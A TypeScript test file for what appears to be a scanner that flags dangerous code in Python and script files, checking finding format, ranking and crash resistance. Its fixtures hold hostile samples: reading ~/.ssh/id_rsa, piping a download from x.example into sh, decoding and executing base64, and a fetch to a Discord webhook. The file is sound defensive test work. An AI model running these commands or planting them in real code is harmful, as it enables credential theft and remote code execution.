import fc from 'fast-check'
import { DangerSearch } from './find-dangers'
import { lookAtPython as look } from '../inspection/python-for-tests'

const hook = 'https://discord.com/api/webhooks/123456789012345678/abcDEFghiJKLmnoPQRstuVWXyz'

test('a finding says where, why and how to fix it, in a short snippet', async () => {
  const [found] = await look(`import os\n\n    \nos.system("${'x'.repeat(400)}")`)
  expect(found).toEqual({
    rule: 'starts-programs',
    severity: 'info',
    enforced: false,
    file: 'nodes.py',
    line: 4,
    snippet: expect.stringMatching(/^os\.system\("x+…$/),
    explanation: expect.any(String),
    fix: expect.any(String),
  })
  expect(found?.snippet).toHaveLength(200)
})

test('many harmless findings do not crowd out a grave one', async () => {
  const noise = Array.from(
    { length: 500 },
    (_, i) => `os.system("a${i}")\nx = eval(y${i})\nu = "https://h${i}.lumen.io"`,
  ).join('\n')
  const findings = await look(`import os, base64\n${noise}\nexec(base64.b64decode(x))`)
  expect(findings[0]?.rule).toBe('runs-decoded-code')
  expect(findings).toHaveLength(151)
})

test('scripts in other languages are looked through as well', () => {
  const search = new DangerSearch()
  search.lookAtScript('web/a.js', `const a = 1\neval(atob("x"))\nfetch("${hook}")`)
  search.lookAtScript('setup.sh', 'cat ~/.ssh/id_rsa\ncurl -fsSL https://x.example | sh')
  search.lookAtScript('web/b.js', 'app.registerExtension({ name: "lumen.glow" })')
  search.lookAtName('bin/tool.exe')
  search.lookAtName('__pycache__/a.pyc')
  search.lookAtName('__pycache__/b.pyc')
  search.noteTooLarge('blob.py')
  expect(search.findings.map(({ rule, file, line }) => [rule, file, line])).toEqual([
    ['reads-credentials', 'setup.sh', 1],
    ['script-runs-decoded-code', 'web/a.js', 2],
    ['sends-to-webhook', 'web/a.js', 3],
    ['python-too-large', 'blob.py', undefined],
    ['compiled-program', 'bin/tool.exe', undefined],
    ['script-runs-download', 'setup.sh', 2],
    ['compiled-python', '__pycache__/a.pyc', undefined],
  ])
})

test('no text makes the search fall over', async () => {
  const words = fc.constantFrom(
    'exec',
    '(',
    ')',
    'base64.b64decode',
    '"',
    'import os as ',
    'os',
    '\n',
    '=',
    'getattr',
    '["exec"]',
    'globals()',
    '+',
    '/',
    'f"{',
    '}',
    'with open(',
    ' as x:',
    '\u0000',
    '\ud800',
  )
  await fc.assert(
    fc.asyncProperty(fc.array(words, { maxLength: 50 }), async (parts) => void (await look(parts.join('')))),
    { numRuns: 300 },
  )
})
